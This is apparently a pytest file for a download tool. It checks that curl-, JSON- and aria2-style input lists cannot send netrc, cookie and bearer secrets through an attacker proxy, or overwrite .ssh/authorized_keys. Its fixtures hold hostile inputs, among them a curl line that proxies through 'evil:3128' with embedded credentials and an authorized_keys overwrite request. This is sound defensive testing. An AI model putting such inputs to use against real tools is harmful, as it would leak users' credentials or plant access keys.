"""Lists that try to carry stored secrets away, in every form, against the command and the app."""

import json
import os
from base64 import b64decode
from pathlib import Path

import pytest

from tests.core.engine import serving
from tests.e2e.terminal import APP, Terminal
from tests.programs import COMMAND, needs_app, start_program
from tests.servers.misbehaving import MisbehavingServer, body_of
from tests.servers.proxy import ProxyProcess, proxy

SECRET = "c4nary"
BODY = body_of(200_000)
ENTER, F8 = "\r", "\x1b[19~"
SETTINGS = """
[request]
netrc = true
referer = "http://from/?c4nary"
cookies = "{home}/cookies.txt"
headers = {{ X-All = "c4nary" }}

[hosts."127.0.0.1"]
bearer = "c4nary"
headers = {{ X-Host = "c4nary" }}
"""
FORMS = {
    "curl": lambda url, way: f"curl -x {way} {url}",
    "curl, netrc and cookies": lambda url, way: (
        f"curl -n -b ~/cookies.txt -x {way} --cacert /tmp/ca.pem {url}"
    ),
    "json": lambda url, way: json.dumps({"url": url, "request": {"proxy": f"http://{way}"}}),
    "json, netrc": lambda url, way: json.dumps(
        {"url": url, "sidecar": False, "request": {"netrc": True, "proxy": f"http://{way}"}}
    ),
    "aria2": lambda url, way: f"{url}\n  all-proxy=http://{way}",
}

pytestmark = needs_app


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home with secrets for the server in it."""
    home = tmp_path / "home"
    settings = home / "config" / "rheo" / "settings.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text(SETTINGS.format(home=home))
    settings.chmod(0o600)
    (home / ".netrc").write_text(f"machine 127.0.0.1 login me password {SECRET}\n")
    (home / ".netrc").chmod(0o600)
    (home / "cookies.txt").write_text(
        f"# Netscape HTTP Cookie File\n127.0.0.1\tFALSE\t/\tFALSE\t0\tjar\t{SECRET}\n"
    )
    (home / "cookies.txt").chmod(0o600)
    return home


async def run(home: Path, *arguments: str, text: str) -> tuple[int | None, str]:
    process = await start_program(
        COMMAND,
        ["download", "-i", "-", *arguments],
        {**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home / "config")},
    )
    out, err = await process.communicate(text.encode())
    return process.returncode, (out + err).decode()


def told(server: MisbehavingServer) -> set[str]:
    """The headers in which the server saw a secret."""
    return {
        name
        for request in server.requests
        for name, value in request.headers.items()
        if SECRET in value or SECRET in _login(value)
    }


def _login(value: str) -> str:
    scheme, _, login = value.partition(" ")
    return b64decode(login).decode() if scheme == "Basic" else ""


def went_through(way: ProxyProcess, server: MisbehavingServer) -> bool:
    return server.url("").rpartition(":")[2].strip("/") in way.log


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("flags", [[], ["-q"], ["--json"], ["--bearer", SECRET]], ids=str)
@pytest.mark.halved("form", "flags")
async def test_a_list_chooses_no_proxy(
    tmp_path: Path, home: Path, server: MisbehavingServer, form: str, flags: list[str]
) -> None:
    url = server.on("/a.bin", serving(BODY))
    async with proxy(tmp_path) as way:
        text = FORMS[form](url, f"127.0.0.1:{way.port}")
        code, said = await run(home, "-o", str(tmp_path / "out"), *flags, text=text)
        assert code == 0, said
        assert not went_through(way, server)
        assert f"asks for proxy {'' if 'curl' in form else 'http://'}127.0.0.1:{way.port}" in said
        assert "not used without --allow-list-options" in said
        assert told(server)  # by the user's own way
    assert (tmp_path / "out" / "a.bin").read_bytes() == BODY


@pytest.mark.parametrize("form", ["curl", "json", "json, netrc", "aria2"])
@pytest.mark.parametrize("flags", [[], ["--bearer", SECRET], ["-H", f"X-Flag: {SECRET}"]], ids=str)
async def test_a_proxy_that_the_user_allows_learns_no_secret(
    tmp_path: Path, home: Path, server: MisbehavingServer, form: str, flags: list[str]
) -> None:
    url = server.on("/a.bin", serving(BODY))
    async with proxy(tmp_path) as way:
        text = FORMS[form](url, f"127.0.0.1:{way.port}")
        code, said = await run(
            home, "-o", str(tmp_path / "out"), "--allow-list-options", *flags, text=text
        )
        assert code == 0, said
        assert went_through(way, server)
        assert f"127.0.0.1:{way.port}, as requested" in said
        assert told(server) == set()
    assert (tmp_path / "out" / "a.bin").read_bytes() == BODY


async def test_the_dry_run_says_it(tmp_path: Path, home: Path) -> None:
    text = "curl -x http://me:s3cret@evil:3128 -k http://127.0.0.1:9/a"
    code, said = await run(home, "--dry-run", text=text)
    assert code == 0
    assert "asks for proxy http://evil:3128: not used without --allow-list-options" in said
    assert "ignored: --insecure" in said
    assert "s3cret" not in said


@pytest.mark.parametrize("exists", ["skip", "error"])
async def test_no_list_replaces_a_file(
    tmp_path: Path, home: Path, server: MisbehavingServer, exists: str
) -> None:
    folder = tmp_path / "out"
    (folder / "ssh").mkdir(parents=True)
    mine = folder / "ssh" / "authorized_keys"
    mine.write_text("mine")
    url = server.on("/k", serving(BODY))
    text = json.dumps(
        {
            "url": url,
            "destination_subdir": ".ssh",
            "filename": "authorized_keys",
            "file_exists_strategy": "overwrite",
        }
    )
    code, said = await run(
        home, "-o", str(folder), "--exists", exists, "--allow-list-options", text=text
    )
    assert code == (0 if exists == "skip" else 1), said
    assert "file_exists_strategy overwrite (a list can only be stricter)" in said
    assert mine.read_text() == "mine"
    assert not (folder / ".ssh").exists()


@pytest.mark.parametrize("way_in", ["flag", "box"])
@pytest.mark.parametrize("allowed", [False, True], ids=["refused", "allowed"])
async def test_the_app(
    tmp_path: Path, home: Path, server: MisbehavingServer, allowed: bool, way_in: str
) -> None:
    url = server.on("/a.bin", serving(BODY))
    command = [APP, "-d", str(tmp_path / "files")]
    async with proxy(tmp_path) as way:
        text = FORMS["curl"](url, f"127.0.0.1:{way.port}")
        (tmp_path / "list.txt").write_text(text)
        if way_in == "flag":
            command += ["-i", str(tmp_path / "list.txt")]
            command += ["--allow-list-options"] if allowed else []
        async with Terminal(command, home) as terminal:
            await terminal.shows("quit")
            if way_in == "box":
                await terminal.paste(text)
                await terminal.shows(f"not used: proxy 127.0.0.1:{way.port}", "Press F8")
                if allowed:
                    await terminal.type(F8)
                    await terminal.shows(f"uses proxy 127.0.0.1:{way.port}", "Press F8 to ignore")
                await terminal.type(ENTER)
            await terminal.shows("6 Done 1")
            await terminal.type("q")
            assert await terminal.exit_code() == 0
        assert went_through(way, server) == allowed
        assert bool(told(server)) != allowed
    assert (tmp_path / "files" / "a.bin").read_bytes() == BODY
